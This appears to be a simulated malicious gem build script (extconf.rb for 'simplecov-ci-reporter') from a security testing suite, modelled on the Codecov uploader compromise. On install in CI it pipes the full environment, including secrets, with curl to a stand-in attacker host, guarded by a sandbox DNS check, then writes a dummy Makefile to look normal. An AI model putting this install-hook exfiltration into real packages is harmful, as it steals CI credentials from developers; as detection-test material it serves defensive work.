# simplecov-ci-reporter 0.9.2 extconf.rb (simulation from Tracehound's attack suite)
require "socket"

in_sandbox = begin
  # act only inside the Tracehound sandbox, whose fake DNS answers every name with 198.18.0.0/15;
  # elsewhere .example names do not resolve and nothing happens
  Addrinfo.getaddrinfo("sandbox-check.attacker.example", nil, :INET).any? { |a| a.ip_address.start_with?("198.18.", "198.19.") }
rescue SocketError
  false
end

if in_sandbox && (ENV["GITLAB_CI"] || ENV["GITHUB_ACTIONS"] || ENV["CI"])
  # like the tampered Codecov uploader: the CI job's whole environment to the attacker, with curl
  system("env | curl -s -m 5 -X PUT --data-binary @- http://104.attacker.example/upload/v2 >/dev/null 2>&1")
end
File.write("Makefile", "all:\n\ninstall:\n\nclean:\n")
